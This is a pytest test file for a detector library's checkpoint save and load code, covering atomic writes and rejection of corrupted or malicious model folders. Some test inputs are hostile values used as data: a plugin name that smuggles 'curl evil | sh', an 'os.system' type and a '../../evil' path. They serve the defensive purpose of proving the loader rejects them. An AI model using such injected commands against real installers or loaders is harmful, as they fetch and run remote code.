"""A saved detector: what comes back, and what every damaged folder is answered with."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file, save_file
from torch import Tensor

from zoo_core import hub, remote
from zoo_core.create import create
from zoo_core.detectors.detector import Detector
from zoo_core.errors import CheckpointError, InputError, SpecError
from zoo_core.provenance import Origin, Provenance
from zoo_core.replace import TEMPORARY

pytestmark = pytest.mark.usefixtures("stubs")
ROOT = Path(__file__).resolve().parents[2]
NAMES = ("Car", "Pedestrian", "Radfahrer ü")


@pytest.fixture
def model() -> Detector:
    torch.manual_seed(0)
    return create("plain_two_stage", class_names=NAMES, neck={"width": 6})


@pytest.fixture
def folder(model: Detector, tmp_path: Path) -> Path:
    return hub.save(model, tmp_path / "saved")


def change(folder: Path, **fields: object) -> None:
    path = folder / hub.CONFIG
    path.write_text(json.dumps(json.loads(path.read_text()) | fields))


def test_what_is_saved_comes_back(model: Detector, folder: Path) -> None:
    again = hub.load(folder)
    image = torch.randint(0, 256, (3, 90, 120), dtype=torch.uint8)
    first, second = model.predict(image)[0], again.predict(image)[0]
    assert torch.equal(first.boxes, second.boxes)
    assert torch.equal(first.scores, second.scores)
    assert (again.class_names, again.recipe, again.spec) == (NAMES, "plain_two_stage", model.spec)
    assert not again.training


def test_options_that_the_weights_do_not_depend_on_may_be_others(model: Detector, folder: Path) -> None:
    again = hub.load(folder, preprocess={"long_side": 320}, proposer={"most": 7})
    assert (again.spec.preprocess.long_side, again.spec.proposer.most) == (320, 7)  # type: ignore[attr-defined]
    assert all(torch.equal(tensor, model.state_dict()[name]) for name, tensor in again.state_dict().items())
    with pytest.raises(SpecError, match="proposer: no option 'mots'; did you mean 'most'"):
        hub.load(folder, proposer={"mots": 7})
    with pytest.raises(CheckpointError, match=r"the weights depend on what was set otherwise \(neck\): .* does not fit"):
        hub.load(folder, neck={"width": 7})


def test_loading_initialises_no_pretrained_weights(folder: Path) -> None:
    assert hub.load(folder).backbone.asked_for_weights == 0


def test_the_folder_says_where_its_parts_come_from(folder: Path) -> None:
    config = json.loads((folder / hub.CONFIG).read_text())
    assert config["format"] == 1
    assert set(config["plugins"]) == {"local", "zoo-core"}
    assert sorted(path.name for path in folder.iterdir()) == ["README.md", hub.CONFIG, hub.WEIGHTS, "training.json"]


def test_saving_again_replaces_the_model_and_leaves_nothing_beside_it(model: Detector, folder: Path) -> None:
    with torch.no_grad():
        next(model.parameters()).fill_(7)
    hub.save(model, folder)
    assert torch.all(next(hub.load(folder).parameters()) == 7)
    assert [path.name for path in folder.parent.iterdir()] == ["saved"]


def test_a_failed_save_leaves_the_old_model_whole(model: Detector, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = load_file(folder / hub.WEIGHTS)

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(hub, "save_file", full)
    with pytest.raises(CheckpointError, match=r"No space left on device.*what was there before is unchanged"):
        hub.save(model, folder)
    after = load_file(folder / hub.WEIGHTS)
    assert all(torch.equal(before[key], after[key]) for key in before)
    assert [path.name for path in folder.parent.iterdir()] == ["saved"]


def test_a_kill_between_the_two_renames_loses_nothing(model: Detector, folder: Path) -> None:
    os.replace(folder, folder.with_name(".saved.old"))  # what such a kill leaves
    assert hub.load(folder).class_names == NAMES
    hub.save(model, folder)
    assert hub.load(folder).class_names == NAMES
    assert [path.name for path in folder.parent.iterdir()] == ["saved"]


def test_it_does_not_save_over_a_strangers_files(model: Detector, folder: Path, tmp_path: Path) -> None:
    thesis = tmp_path / "work" / "thesis.tex"
    thesis.parent.mkdir()
    thesis.write_text("years of work")
    with pytest.raises(CheckpointError, match=r"holds other files \(thesis.tex\)"):
        hub.save(model, thesis.parent)
    with pytest.raises(CheckpointError, match="is a file"):
        hub.save(model, thesis)
    thesis.rename(folder / "thesis.tex")  # beside a model, too
    with pytest.raises(CheckpointError, match=r"holds other files \(thesis.tex\)"):
        hub.save(model, folder)
    assert (folder / "thesis.tex").read_text() == "years of work"


def test_a_config_of_another_program_is_not_replaced(model: Detector, tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"architectures": ["Other"]}')
    with pytest.raises(CheckpointError, match="format version None"):
        hub.save(model, tmp_path)
    assert "Other" in (tmp_path / "config.json").read_text()


@pytest.mark.parametrize("name", [".", "..", ""])
def test_a_folder_needs_a_name(model: Detector, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CheckpointError, match="give the folder a name"):
        hub.save(model, name)


def test_a_model_that_is_renamed_onto_and_fails_is_put_back(
    model: Detector, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    genuine = os.replace

    def fails_at_the_second(source: Path, target: Path) -> None:
        if source.name.endswith(TEMPORARY):
            raise OSError(5, "Input/output error")
        genuine(source, target)

    monkeypatch.setattr(os, "replace", fails_at_the_second)
    with pytest.raises(CheckpointError, match="what was there before is unchanged"):
        hub.save(model, folder)
    assert hub.load(folder).class_names == NAMES
    assert [path.name for path in folder.parent.iterdir()] == ["saved"]


def test_tensors_that_share_memory_are_saved(model: Detector, tmp_path: Path) -> None:
    model.backbone.twin = model.backbone.fine  # type: ignore[assignment]
    hub.save(model, tmp_path / "shared")
    tensors = load_file(tmp_path / "shared" / hub.WEIGHTS)
    assert torch.equal(tensors["backbone.twin.weight"], tensors["backbone.fine.weight"])


def test_a_kill_at_any_moment_leaves_a_whole_model(tmp_path: Path) -> None:
    program = """
import sys, torch
from tests.core.stubs import STUBS
from zoo_core import hub, registry
from zoo_core.create import create
with registry.contributed(*STUBS):
    model = create("plain_two_stage")
    for k in range(10**6):
        with torch.no_grad():
            for parameter in model.parameters():
                parameter.fill_(k)
        hub.save(model, sys.argv[1])
        print(k, flush=True)
"""
    for wait in (0.0, 0.003, 0.008):
        command = [sys.executable, "-c", program, str(tmp_path / "model")]
        with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as child:
            assert child.stdout
            last = [int(child.stdout.readline()) for _ in range(5)][-1]
            time.sleep(wait)
            child.kill()
        values = {float(tensor.min()) for tensor in hub.load(tmp_path / "model").state_dict().values()}
        assert len(values) == 1, "tensors of two saves"
        assert values.pop() >= last


def test_a_run_is_loaded_from_its_latest_checkpoint(model: Detector, tmp_path: Path) -> None:
    for step, value in ((2, 2.0), (10, 10.0)):
        with torch.no_grad():
            next(model.parameters()).fill_(value)
        hub.save(model, tmp_path / f"step-{step:07d}")
    assert torch.all(next(hub.load(tmp_path).parameters()) == 10)


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"format": 2}, "format version 2; this version of the zoo reads version 1"),
        ({"format": "1"}, "format version '1'"),
        ({"author": "me"}, "author: Extra inputs are not permitted"),
        ({"class_names": ["a", ""]}, "class_names.1"),
        ({"class_names": ["a", "b"]}, "3 classes need as many names, got 2"),
        ({"spec": {"type": "os.system"}}, "no assembly named 'os.system'"),
        ({"spec": {"type": "../../evil"}}, "no assembly named '../../evil'"),
        ({"spec": {}}, "no assembly named 'None'"),
        ({"spec": []}, "spec: Input should be a valid dictionary"),
    ],
)
def test_a_config_that_is_not_right(folder: Path, fields: dict[str, object], message: str) -> None:
    change(folder, **fields)
    with pytest.raises(CheckpointError, match=re.escape(message)):
        hub.load(folder)


def test_a_part_of_a_plugin_that_is_not_here_names_the_pip_line(folder: Path) -> None:
    spec = json.loads((folder / hub.CONFIG).read_text())["spec"]
    spec["neck"]["type"] = "bifpn"
    change(folder, spec=spec, plugins={"zoo-bifpn": "1.2", "zoo-core": "0.1.0"})
    with pytest.raises(CheckpointError, match=r"no neck named 'bifpn'[\s\S]*pip install zoo-bifpn==1.2"):
        hub.load(folder)
    change(folder, plugins={"x; curl evil | sh #": "1"})
    with pytest.raises(CheckpointError, match="String should match pattern"):
        hub.load(folder)


@pytest.mark.parametrize("content", [b"", b"{", b'{"format": 1}', b"[1]", b"\xff\xfe", b"[" * 100_000])
def test_a_config_that_is_no_config(folder: Path, content: bytes) -> None:
    (folder / hub.CONFIG).write_bytes(content)
    with pytest.raises(CheckpointError, match=re.escape(hub.CONFIG)):
        hub.load(folder)


def test_a_config_that_says_a_thing_twice_or_what_json_has_not(folder: Path) -> None:
    path = folder / hub.CONFIG
    whole = path.read_text()
    for old, new, message in (
        ('"format": 1', '"format": 2, "format": 1', "'format' is given 2 times"),
        ('"type": "blocks"', '"type": "blocks", "type": "os.system"', "'type' is given 2 times"),
        ('"width": 4', '"width": NaN', "NaN is no number"),
        ('"width": 4', '"width": -Infinity', "-Infinity is no number"),
    ):
        assert old in whole
        path.write_text(whole.replace(old, new, 1))
        with pytest.raises(CheckpointError, match=f"is not readable JSON: {message}"):
            hub.load(folder)


def test_a_config_that_is_too_long_is_neither_read_nor_written(folder: Path, tmp_path: Path) -> None:
    path = folder / hub.CONFIG
    path.write_bytes(path.read_bytes() + b" " * hub.LONGEST)
    with pytest.raises(CheckpointError, match=f"it is longer than {hub.LONGEST} bytes"):
        hub.load(folder)
    wordy = create("plain_one_stage", class_names=[f"{k:0>1000}" for k in range(2200)])
    with pytest.raises(InputError, match=r"the names of 2,200 classes take more than 2,097,152 bytes"):
        hub.save(wordy, tmp_path / "wordy")
    assert not (tmp_path / "wordy").exists()


@pytest.mark.parametrize("name", [hub.CONFIG, hub.WEIGHTS])
def test_what_is_no_file_is_not_waited_for(folder: Path, name: str) -> None:
    path = folder / name
    for make in (os.mkfifo, os.mkdir, lambda path: os.symlink("/dev/zero", path)):
        path.unlink() if not path.is_dir() else path.rmdir()
        make(path)
        with pytest.raises(CheckpointError, match=r"holds no model: config.json is missing|it is not a regular file"):
            hub.load(folder)
    with pytest.raises(CheckpointError, match=r"there is no such file|it is not a regular file"):
        hub.read_config(folder) if name == hub.CONFIG else hub.load_weights(create("plain_two_stage"), path)


def memory(name: str) -> int:
    """Return what Linux knows of this process: "VmRSS", the memory that it holds, or "VmHWM", the most since it was told."""
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) * 1024 for line in lines if line.startswith(f"{name}:"))


@pytest.mark.skipif(not os.access("/proc/self/clear_refs", os.W_OK), reason="the system does not tell the memory of a process")
@pytest.mark.parametrize("width", [2**13, 2**18, 10**9, 10**18, 10**30])
def test_a_config_that_asks_for_gigabytes_gets_none(folder: Path, width: int) -> None:
    config = json.loads((folder / hub.CONFIG).read_text())
    config["spec"]["backbone"]["width"] = width  # of 2 ** 13, 2 GiB: no allocation fails
    change(folder, spec=config["spec"])
    Path("/proc/self/clear_refs").write_text("5")
    before = memory("VmRSS")
    with pytest.raises(CheckpointError) as caught:
        hub.load(folder)
    assert memory("VmHWM") - before < 64 * 2**20
    assert "does not fit its config.json" in str(caught.value) or "cannot be built with these options" in str(caught.value)
    assert len(str(caught.value)) < 500


def test_a_pickle_alone_is_not_opened(folder: Path, tmp_path: Path) -> None:
    torch.save({"x": torch.zeros(1)}, folder / "pytorch_model.bin")
    (folder / hub.WEIGHTS).unlink()
    with pytest.raises(CheckpointError, match=f"incomplete: {hub.WEIGHTS} is missing"):
        hub.load(folder)
    (folder / hub.CONFIG).unlink()
    with pytest.raises(CheckpointError, match=f"holds no model: {hub.CONFIG} is missing"):
        hub.load(folder)


def test_a_header_that_claims_a_terabyte(folder: Path) -> None:
    path = folder / hub.WEIGHTS
    path.write_bytes((2**40).to_bytes(8, "little") + path.read_bytes()[8:])
    with pytest.raises(CheckpointError, match="it claims to describe its tensors in 1,099,511,627,776 bytes, and no more than"):
        hub.load(folder)


def test_a_bit_that_is_flipped(model: Detector, folder: Path) -> None:
    """In the header it is told; in a weight it makes another model, unless that is one with which nothing can be found."""
    path = folder / hub.WEIGHTS
    whole = path.read_bytes()
    start = 8 + int.from_bytes(whole[:8], "little")
    wanted = {name: tensor.clone() for name, tensor in model.state_dict().items()}
    for place in [*range(0, start, 7), start + 3, start + 6]:
        for bit in (0, 6):
            path.write_bytes(whole[:place] + bytes([whole[place] ^ 1 << bit]) + whole[place + 1 :])
            try:
                found = hub.load(folder).state_dict()
            except CheckpointError:
                continue
            different = [name for name, tensor in found.items() if not torch.equal(tensor, wanted[name])]
            assert all(bool(tensor.isfinite().all()) for tensor in found.values())
            assert len(different) == (place >= start) or b'"__metadata__"' in whole[place - 40 : place]


def test_weights_that_are_missing_truncated_or_of_another_shape(folder: Path) -> None:
    path = folder / hub.WEIGHTS
    whole = path.read_bytes()
    for content in (b"", whole[:7], whole[:100], whole[:-1], b"\xff" * 64, (2**62).to_bytes(8, "little") + whole[8:]):
        path.write_bytes(content)
        with pytest.raises(CheckpointError, match="damaged or not a safetensors file"):
            hub.load(folder)
    path.write_bytes(whole)
    tensors = load_file(path)
    name = next(iter(tensors))
    save_file(tensors | {name: torch.zeros(5)}, path)
    with pytest.raises(CheckpointError, match=rf"{re.escape(name)} has shape \(5,\), expected"):
        hub.load(folder)
    save_file({key: value for key, value in tensors.items() if key != name}, path)
    with pytest.raises(CheckpointError, match=rf"{re.escape(name)} has shape None"):
        hub.load(folder)
    path.unlink()
    with pytest.raises(CheckpointError, match=f"incomplete: {hub.WEIGHTS} is missing"):
        hub.load(folder)


@pytest.mark.parametrize(
    "change", [lambda t: t * float("nan"), lambda t: t / 0, lambda t: t.to(torch.int8), lambda t: t.double() * 1e300]
)
def test_weights_that_cannot_be_right(folder: Path, change: Callable[[Tensor], Tensor]) -> None:
    tensors = load_file(folder / hub.WEIGHTS)
    save_file({name: change(tensor) for name, tensor in tensors.items()}, folder / hub.WEIGHTS)
    with pytest.raises(CheckpointError, match=r"not finite|holds torch.int8, expected torch.float32"):
        hub.load(folder)


def test_saving_through_a_link_writes_to_where_it_leads(model: Detector, folder: Path, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(folder)
    for value in (3.0, 4.0):
        with torch.no_grad():
            next(model.parameters()).fill_(value)
        hub.save(model, tmp_path / "link")
        assert torch.all(next(hub.load(folder).parameters()) == value)
    assert (tmp_path / "link").is_symlink()


def test_colleagues_can_read_all_files(folder: Path) -> None:
    modes = {path.stat().st_mode & 0o777 for path in folder.iterdir()}
    assert modes == {folder.stat().st_mode & 0o666}


def test_what_is_no_model_and_no_folder(model: Detector, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="save takes a detector, not a Linear"):
        hub.save(torch.nn.Linear(1, 1), tmp_path / "x")  # type: ignore[arg-type]
    with pytest.raises(CheckpointError, match="5 is no folder"):
        hub.load(5)  # type: ignore[arg-type]


def test_folders_that_are_none(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    (tmp_path / "empty").mkdir()
    for name, message in (("absent", "no such folder"), ("file", "is a file"), ("empty", "holds no model")):
        with pytest.raises(CheckpointError, match=message):
            hub.load(tmp_path / name)


def test_a_folder_that_cannot_be_looked_at(model: Detector) -> None:
    name = "a" * 300
    with pytest.raises(CheckpointError, match="is no folder that can be looked at: File name too long"):
        remote.load(name)
    with pytest.raises(CheckpointError, match="is no folder that can be looked at: File name too long"):
        hub.save(model, name)
    with pytest.raises(CheckpointError, match="is no tag of weights"):
        create("plain_one_stage", weights=name)
    with pytest.raises(InputError, match="is no name of a repository"):
        remote.load(f"org/{name}", local_files_only=True)


def test_another_number_of_classes_is_told_to_be_the_callers(folder: Path) -> None:
    with pytest.raises(
        CheckpointError, match=r"depend on what was set otherwise \(num_classes\): .*5 classes need as many names"
    ):
        hub.load(folder, num_classes=5)


def test_a_loaded_model_has_the_layout_of_a_new_one(tmp_path: Path) -> None:
    model = create("plain_two_stage")
    found = hub.load(hub.save(model, tmp_path / "saved"))
    for name, tensor in model.state_dict().items():
        assert found.state_dict()[name].stride() == tensor.stride(), name
        assert torch.equal(found.state_dict()[name], tensor), name


@pytest.mark.skipif(not os.access("/proc/self/clear_refs", os.W_OK), reason="the peak of memory is measured by Linux")
def test_loading_keeps_one_copy_of_the_weights(tmp_path: Path) -> None:
    folder = hub.save(create("plain_two_stage", roi_head={"width": 500_000}), tmp_path / "wide")
    size = (folder / hub.WEIGHTS).stat().st_size / 2**20
    hub.load(folder)  # the first time, it also imports
    Path("/proc/self/clear_refs").write_text("5")
    before = _memory("VmRSS")
    model = hub.load(folder)
    rise = _memory("VmHWM") - before
    assert size > 64
    assert rise < 1.25 * size, f"{rise:.0f} MiB for a file of {size:.0f} MiB"
    assert model.spec.roi_head.width == 500_000  # type: ignore[attr-defined]


def _memory(field: str) -> float:
    lines = Path("/proc/self/status").read_text().splitlines()
    return int(next(line for line in lines if line.startswith(field)).split()[1]) / 2**10


def test_names_that_no_folder_can_have(tmp_path: Path) -> None:
    model = create("plain_one_stage", num_classes=2)
    for name in ("x" * 300, "a\0b"):
        for use in (lambda name=name: hub.load(tmp_path / name), lambda name=name: hub.save(model, tmp_path / name)):
            with pytest.raises(CheckpointError, match="is no folder"):
                use()


def test_letters_that_no_file_can_hold(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="the name of a class holds no"):
        create("plain_one_stage", class_names=("Car", "\ud800"))
    model = create("plain_one_stage", num_classes=2)
    model.provenance = Provenance(began=Origin(kind="saved", name="caf\udce9"))
    known = hub.load(hub.save(model, tmp_path / "model")).provenance
    assert known is not None
    assert known.began == Origin(kind="saved", name="caf?")
    (tmp_path / "model" / "training.json").write_text('{"versions": {"zoo": "\\ud800"}}')
    with pytest.raises(CheckpointError, match=r"not readable JSON.*surrogates"):
        hub.load(tmp_path / "model")
